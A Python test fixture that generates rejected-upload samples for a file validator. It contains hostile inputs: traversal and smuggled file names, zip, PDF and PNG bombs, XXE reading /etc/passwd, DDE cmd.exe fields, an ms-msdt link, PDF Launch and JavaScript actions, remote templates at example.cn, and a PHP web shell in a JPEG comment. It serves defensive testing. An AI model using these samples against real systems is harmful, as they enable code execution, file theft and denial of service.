"""Files that must be refused: (what it is, name, bytes), made when asked for."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO

from pypdf import PdfReader, PdfWriter

from tests.bulletin.uploads.files import (
    PARAGRAPH,
    chunk,
    docx,
    field,
    link,
    package,
    pdf,
    photo,
    png,
    word,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
Case = tuple[str, str, Callable[[], bytes]]


def corpus() -> Iterator[Case]:
    yield from of_names()
    yield from of_other_kinds()
    yield from of_packages()
    yield from of_documents()
    yield from of_pdfs()
    yield from of_photos()


def of_names() -> Iterator[Case]:
    yield "a path upwards", "../../etc/cron.d/报告.docx", docx
    yield "a path of Windows", "..\\..\\报告.docx", docx
    yield "a path from the root", "/etc/报告.docx", docx
    yield "a stream of NTFS", "报告.docx:隐藏.docx", docx
    yield "a zero byte", "报告.exe\x00.docx", docx
    yield "letters turned round", "报告\u202excod.exe.docx", docx
    yield "a line break", "报告.docx\r\nSet-Cookie: a=b.docx", docx
    yield "a program by its name", "报告.docx.exe", docx
    yield "no ending", "报告", docx
    yield "a page by its name", "照片.html", photo
    yield "a PDF that is a photo", "照片.jpg", pdf
    yield "a photo that is a PDF", "报告.pdf", photo
    yield "a PNG that is a JPEG", "照片.png", photo
    yield "a document that is a PDF", "报告.docx", pdf


def of_other_kinds() -> Iterator[Case]:
    yield "nothing", "照片.jpg", lambda: b""
    yield "too large", "照片.jpg", lambda: photo() + b"\x00" * 10 * 2**20
    yield "an old Word file", "报告.doc", lambda: OLE + b"\x00" * 600
    yield "an old Word file renamed", "报告.docx", lambda: OLE + b"\x00" * 600
    yield "a document with a password", "报告.docx", encrypted_office
    yield "a program", "照片.jpg", lambda: b"MZ\x90\x00" + b"\x00" * 600
    yield "a program of Linux", "照片.png", lambda: b"\x7fELF" + b"\x00" * 600
    yield "a page", "报告.pdf", lambda: b"<html><script>alert(1)</script></html>"
    yield "a drawing with script", "照片.png", lambda: b"<svg onload='alert(1)'/>"
    yield "RTF", "报告.docx", lambda: b"{\\rtf1\\object}"
    yield "a GIF", "照片.png", lambda: photo("GIF")
    yield "a TIFF", "照片.jpg", lambda: photo("TIFF")
    yield "a bitmap", "照片.jpg", lambda: photo("BMP")
    yield "PostScript", "照片.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n"
    yield "a RAR", "报告.docx", lambda: b"Rar!\x1a\x07\x00" + b"\x00" * 60
    yield "text", "报告.docx", lambda: "二月工作".encode()


def of_packages() -> Iterator[Case]:
    yield "a bomb", "报告.docx", lambda: word(more=[("word/media/a.xml", b" " * 60_000_000)])
    yield (
        "many small bombs",
        "报告.docx",
        lambda: word(more=[(f"word/a{n}.txt", b"\x00" * 1_000_000) for n in range(90)]),
    )
    yield "a size that lies", "报告.docx", lambda: lying_size(word())
    yield (
        "a bomb that lies",
        "报告.docx",
        lambda: lying_size(word(more=[("word/a.txt", b"\x00" * 9_000_000)]), b"word/a.txt"),
    )
    yield "a checksum that lies", "报告.docx", lambda: flip_last_content(word())
    yield (
        "too many parts",
        "报告.docx",
        lambda: word(more=[(f"word/a{n}.txt", b"") for n in range(600)]),
    )
    yield "a part outside", "报告.docx", lambda: word(more=[("../../evil.xml", "<a/>")])
    yield "a part from the root", "报告.docx", lambda: word(more=[("/etc/passwd", "x")])
    yield "a part twice", "报告.docx", twice
    yield "a part twice by case", "报告.docx", lambda: word(more=[("WORD/document.xml", "<a/>")])
    yield "truncated", "报告.docx", lambda: docx()[:-200]
    yield "a head alone", "报告.docx", lambda: b"PK\x03\x04" + b"\x00" * 100
    yield "encrypted parts", "报告.docx", lambda: mark_encrypted(word())
    yield (
        "a workbook",
        "报告.docx",
        lambda: package([("[Content_Types].xml", "<a/>"), ("xl/workbook.xml", "<a/>")]),
    )
    yield (
        "slides",
        "报告.docx",
        lambda: package([("[Content_Types].xml", "<a/>"), ("ppt/presentation.xml", "<a/>")]),
    )
    yield "OpenDocument", "报告.docx", lambda: package([("mimetype", "odt"), ("content.xml", "")])
    yield "an archive", "报告.docx", lambda: package([("a.exe", b"MZ")])
    yield (
        "an archive in an archive",
        "报告.docx",
        lambda: word(more=[("word/nested.zip", package([("a.docx", docx())]))]),
    )
    yield (
        "LZMA",
        "报告.docx",
        lambda: package(
            [("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>")], zipfile.ZIP_LZMA
        ),
    )


def of_documents() -> Iterator[Case]:
    entity = '<!DOCTYPE w:document [<!ENTITY a "{}">]>'
    laughs = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    yield "an entity", "报告.docx", lambda: word(dtd=entity.format("x"))
    yield "a billion laughs", "报告.docx", lambda: word("&b;", dtd=laughs)
    yield (
        "a file of the server",
        "报告.docx",
        lambda: word("&a;", dtd='<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    )
    yield "a DTD elsewhere", "报告.docx", lambda: word(dtd='<!DOCTYPE d SYSTEM "http://a.cn/d">')
    yield "nesting", "报告.docx", lambda: word("<w:p>" * 5000 + "</w:p>" * 5000)
    yield "a million elements", "报告.docx", lambda: word("<w:p/>" * 500_000)
    yield "broken XML", "报告.docx", lambda: word("<w:p>")
    yield (
        "UTF-16 inside",
        "报告.docx",
        lambda: word(more=[("word/styles.xml", '<?xml version="1.0"?><a/>'.encode("utf-16"))]),
    )
    yield "macros", "报告.docx", lambda: word(more=[("word/vbaProject.bin", OLE)])
    yield (
        "macros by type",
        "报告.docx",
        lambda: word(
            types='<Override PartName="/word/a.xml" ContentType="application/vnd.ms-word.document.'
            'macroEnabled.main+xml"/>'
        ),
    )
    yield "a ribbon", "报告.docx", lambda: word(more=[("customUI/customUI.xml", "<a/>")])
    yield (
        "an embedded object",
        "报告.docx",
        lambda: word(more=[("word/embeddings/oleObject1.bin", OLE)]),
    )
    yield "ActiveX", "报告.docx", lambda: word(more=[("word/activeX/activeX1.xml", "<a/>")])
    yield (
        "a page inside",
        "报告.docx",
        lambda: word(
            '<w:altChunk r:id="r9"/>', rels=link("aFChunk", "afchunk.mht", external=False)
        ),
    )
    yield (
        "a template elsewhere",
        "报告.docx",
        lambda: word(rels=link("attachedTemplate", "http://example.cn/a.dotm")),
    )
    yield (
        "a picture elsewhere",
        "报告.docx",
        lambda: word(rels=link("image", "file://example.cn/share/a.png")),
    )
    yield (
        "an object elsewhere",
        "报告.docx",
        lambda: word(rels=link("oleObject", "mhtml:http://example.cn/a.html!x-usc")),
    )
    yield (
        "a link that runs",
        "报告.docx",
        lambda: word(rels=link("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    )
    yield (
        "a link to a share",
        "报告.docx",
        lambda: word(rels=link("hyperlink", "file://example.cn/a")),
    )
    yield (
        "a relation upwards",
        "报告.docx",
        lambda: word(rels=link("image", "media/../../../../etc/passwd", external=False)),
    )
    yield "DDE", "报告.docx", lambda: word(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))
    yield (
        "DDE in pieces",
        "报告.docx",
        lambda: word(
            "<w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
            "<w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>"
        ),
    )
    yield "a simple DDE", "报告.docx", lambda: word('<w:fldSimple w:instr="DDE cmd"/>')
    yield (
        "an included file",
        "报告.docx",
        lambda: word(field('INCLUDETEXT "http://example.cn/a.docx"') + PARAGRAPH),
    )


def of_pdfs() -> Iterator[Case]:
    script = "<< /S /JavaScript /JS (app.alert(1)) >>"
    yield "script at opening", "报告.pdf", lambda: pdf(f"/OpenAction {script}")
    yield (
        "script by name",
        "报告.pdf",
        lambda: pdf("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", objects=[script]),
    )
    yield (
        "script in disguise",
        "报告.pdf",
        lambda: pdf("/OpenAction << /S /J#61vaScript /#4a#53 (app.alert(1)) >>"),
    )
    yield "script at turning", "报告.pdf", lambda: pdf(page=f"/AA << /O {script} >>")
    yield "script packed away", "报告.pdf", lambda: packed(pdf(f"/OpenAction {script}"))
    yield "a program started", "报告.pdf", lambda: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>")
    yield (
        "a program in disguise",
        "报告.pdf",
        lambda: pdf("/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
    )
    yield (
        "another file opened",
        "报告.pdf",
        lambda: pdf("/OpenAction << /S /GoToR /F (\\\\\\\\example.cn\\\\a) >>"),
    )
    yield (
        "a form sent off",
        "报告.pdf",
        lambda: pdf("/OpenAction << /S /SubmitForm /F (http://example.cn) >>"),
    )
    yield "a form with a program", "报告.pdf", lambda: pdf("/AcroForm << /XFA (x) >>")
    yield "a file inside", "报告.pdf", with_file
    yield "a film", "报告.pdf", lambda: pdf(page="/Annots [<< /Subtype /RichMedia >>]")
    yield "a password", "报告.pdf", encrypted_pdf
    yield "no pages", "报告.pdf", no_pages
    yield "too many pages", "报告.pdf", many_pages
    yield "truncated PDF", "报告.pdf", lambda: pdf()[:-40]
    yield "a head of PDF", "报告.pdf", lambda: b"%PDF-1.7\n"
    yield "a PDF of nothing", "报告.pdf", lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n"
    yield "a PDF in front of an archive", "报告.pdf", lambda: pdf() + package([("a", "b")])
    yield "a PDF with a page", "报告.pdf", lambda: pdf() + b"<script>alert(1)</script>"
    yield "a circle of pages", "报告.pdf", lambda: pdf().replace(b"[3 0 R]", b"[2 0 R]")
    yield "a packed bomb", "报告.pdf", bomb_of_objects


def of_photos() -> Iterator[Case]:
    yield "a huge picture", "照片.png", lambda: png(60_000, 60_000)
    yield "a wide picture", "照片.png", lambda: png(1_000_000, 40)
    yield "a large picture", "照片.png", lambda: png(9_000, 9_000, b"\x00" * 100)
    yield "less than it says", "照片.png", lambda: png(640, 480, b"\x00" * 100)
    yield "a dot", "照片.png", lambda: photo("PNG", (1, 1))
    yield "a truncated photo", "照片.jpg", lambda: photo()[:400]
    yield "a head of a photo", "照片.jpg", lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 50
    yield "a broken checksum", "照片.png", lambda: flip(photo("PNG"), 20)
    yield (
        "a bomb of text",
        "照片.png",
        lambda: png(
            64,
            64,
            b"\x00" * 64 * 193,
            chunk(b"zTXt", b"a\x00\x00" + zlib.compress(b"a" * 90_000_000)),
        ),
    )
    yield "an archive behind", "照片.jpg", lambda: photo() + package([("a.class", b"x" * 50)])
    yield "a page behind", "照片.png", lambda: photo("PNG") + b"<script>alert(1)</script>"
    yield "code in a comment", "照片.jpg", lambda: photo(comment=b"<?php system($_GET[0]); ?>")
    yield "anything behind a PNG", "照片.png", lambda: photo("PNG") + b"secret" * 20


def encrypted_office() -> bytes:
    return OLE + b"\x00" * 600 + "EncryptedPackage".encode("utf-16-le")


def lying_size(data: bytes, name: bytes = b"word/document.xml") -> bytes:
    """Both headers of `name` declare ten bytes."""
    changed = bytearray(data)
    for signature, at_size, at_name in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = -1
        while (start := changed.find(signature, start + 1)) >= 0:
            if changed[start + at_name : start + at_name + len(name)] == name:
                changed[start + at_size : start + at_size + 4] = struct.pack("<I", 10)
    return bytes(changed)


def flip_last_content(data: bytes) -> bytes:
    return flip(data, data.index(b"PK\x01\x02") - 5)


def flip(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def mark_encrypted(data: bytes) -> bytes:
    changed = bytearray(data)
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := changed.find(signature, start + 1)) >= 0:
            changed[start + at] |= 1
    return bytes(changed)


def twice() -> bytes:
    name = "word/documenu.xml"
    data = word(more=[(name, "<a/>")])
    return data.replace(name.encode(), b"word/document.xml")


def written(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def with_file() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf())))
    writer.add_attachment("a.exe", b"MZ")
    return written(writer)


def encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf())))
    writer.encrypt("secret", algorithm="RC4-128")
    return written(writer)


def no_pages() -> bytes:
    return pdf().replace(b"[3 0 R] /Count 1", b"[] /Count 0     ")


def many_pages() -> bytes:
    writer = PdfWriter()
    for _ in range(201):
        writer.add_blank_page(595, 842)
    return written(writer)


def packed(data: bytes) -> bytes:
    """Its objects in a compressed object stream, out of sight."""
    body = b"<< /S /J#61vaScript /#4a#53 (app.alert(1)) >>"
    content = b"9 0 " + body
    return object_stream(content, 4)


def object_stream(content: bytes, first: int, *, declared: int = 1) -> bytes:
    """A PDF 1.5 whose object 9 stands in stream 5 and whose index is a stream itself."""
    squeezed = zlib.compress(content, 9)
    out = bytearray(b"%PDF-1.7\n")
    at = {}
    for number, body in (
        (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"),
        (
            5,
            b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (declared, first, len(squeezed))
            + squeezed
            + b"\nendstream",
        ),
    ):
        at[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    rows = [(0, 0, 255), (1, at[1], 0), (1, at[2], 0), (1, at[3], 0), (0, 0, 0), (1, at[5], 0)]
    rows += [(1, start, 0), (0, 0, 0), (0, 0, 0), (2, 5, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 10 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    )
    return bytes(out)


def bomb_of_objects() -> bytes:
    return object_stream(b"9 0 " + b" " * 400_000_000 + b"<< >>", 4)
